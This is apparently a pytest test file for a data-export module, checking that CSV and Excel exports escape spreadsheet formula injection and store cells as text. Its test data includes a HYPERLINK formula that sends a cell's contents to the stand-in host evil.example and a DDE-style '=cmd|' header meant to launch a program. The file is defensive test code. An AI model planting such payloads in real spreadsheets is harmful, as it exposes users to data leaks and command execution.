import csv
import io
from datetime import date, datetime

import numpy as np
import openpyxl
import pandas as pd
import pytest

from core.exports import dataframe_to_csv_bytes, dataframe_to_xlsx_bytes, escape_formula, sheet_name

ATTACK = '=HYPERLINK("http://evil.example/?leak="&A1, "click")'


@pytest.mark.parametrize(
    "value, expected",
    [
        ("=1+1", "'=1+1"),
        ("+1 617 555 1234", "'+1 617 555 1234"),
        ("-2", "'-2"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("Block Watch", "Block Watch"),
        ("a=b", "a=b"),
        ("", ""),
        (5, 5),
        (-5, -5),
        (2.5, 2.5),
        (None, None),
    ],
)
def test_escape_formula(value, expected):
    assert escape_formula(value) == expected


def frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "organization": [ATTACK, "Elm St Block Watch", None],
            "=cmd|' /C calc'!A0": ["@evil", "plain", "-1"],
            "attendance": [12, -3, 0],
            "score": [1.5, np.nan, -2.25],
            "held_on": pd.to_datetime(["2026-10-01", "2026-10-02", "2026-10-03"]),
        }
    )


def test_csv_round_trip_escapes_text_and_headers_only():
    data = dataframe_to_csv_bytes(frame())
    assert data.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads UTF-8 correctly
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0] == ["organization", "'=cmd|' /C calc'!A0", "attendance", "score", "held_on"]
    assert rows[1] == ["'" + ATTACK, "'@evil", "12", "1.5", "2026-10-01"]
    assert rows[2] == ["Elm St Block Watch", "plain", "-3", "", "2026-10-02"]
    assert rows[3] == ["", "'-1", "0", "-2.25", "2026-10-03"]


def test_csv_keeps_unicode_and_the_input_frame_unchanged():
    df = pd.DataFrame({"name": ["Café Münch", "=x"]})
    rows = list(csv.reader(io.StringIO(dataframe_to_csv_bytes(df).decode("utf-8-sig"))))
    assert rows == [["name"], ["Café Münch"], ["'=x"]]
    assert df["name"].tolist() == ["Café Münch", "=x"]


def test_xlsx_round_trip_writes_strings_not_formulas():
    data = dataframe_to_xlsx_bytes(frame())
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert sheet.title == "Sheet1"
    values = list(sheet.iter_rows(values_only=True))
    assert values[0] == ("organization", "'=cmd|' /C calc'!A0", "attendance", "score", "held_on")
    assert values[1][:4] == ("'" + ATTACK, "'@evil", 12, 1.5)
    assert values[2][:4] == ("Elm St Block Watch", "plain", -3, None)
    assert values[3][:4] == (None, "'-1", 0, -2.25)
    assert values[1][4] == datetime(2026, 10, 1)
    # no cell anywhere is stored as a formula
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    assert all(isinstance(v, str) for v in (values[1][0], values[1][1], values[3][1]))


def test_xlsx_stores_text_even_if_escaping_were_missed(monkeypatch):
    # strings_to_formulas=False is the second guard: with escaping switched
    # off, "=1+1" must still be stored as text, not as a formula
    monkeypatch.setattr("core.exports.escape_formula", lambda value: value)
    data = dataframe_to_xlsx_bytes(pd.DataFrame({"x": ["=1+1"]}))
    cell = openpyxl.load_workbook(io.BytesIO(data)).active["A2"]
    assert (cell.value, cell.data_type) == ("=1+1", "s")


def test_xlsx_several_sheets_with_sanitised_names():
    sheets = {
        "Events [Oct/2026]": pd.DataFrame({"a": [1]}),
        "events [oct_2026]": pd.DataFrame({"a": [2]}),
        "A" * 40: pd.DataFrame({"a": [3]}),
        "": pd.DataFrame({"a": [4]}),
        "History": pd.DataFrame({"a": [5]}),
    }
    book = openpyxl.load_workbook(io.BytesIO(dataframe_to_xlsx_bytes(sheets)))
    assert book.sheetnames == ["Events _Oct_2026_", "events _oct_2026_ (2)", "A" * 31, "Sheet", "History_"]
    assert [book[name]["A2"].value for name in book.sheetnames] == [1, 2, 3, 4, 5]


def test_xlsx_handles_time_zones_categories_and_dates():
    df = pd.DataFrame(
        {
            "at": pd.to_datetime(["2026-10-01 12:30"]).tz_localize("UTC"),
            "kind": pd.Categorical(["=bad"]),
            "day": [date(2026, 10, 1)],
        }
    )
    sheet = openpyxl.load_workbook(io.BytesIO(dataframe_to_xlsx_bytes(df))).active
    row = list(sheet.iter_rows(values_only=True))[1]
    assert row[0] == datetime(2026, 10, 1, 12, 30)
    assert row[1] == "'=bad"
    assert row[2] == datetime(2026, 10, 1)


@pytest.mark.parametrize(
    "name, expected",
    [("ok", "ok"), ("a:b*c?d", "a_b_c_d"), ("'quoted'", "quoted"), ("x" * 31, "x" * 31), ("   ", "Sheet")],
)
def test_sheet_name(name, expected):
    assert sheet_name(name) == expected


def test_empty_workbook_is_refused():
    with pytest.raises(ValueError, match="no sheets"):
        dataframe_to_xlsx_bytes({})
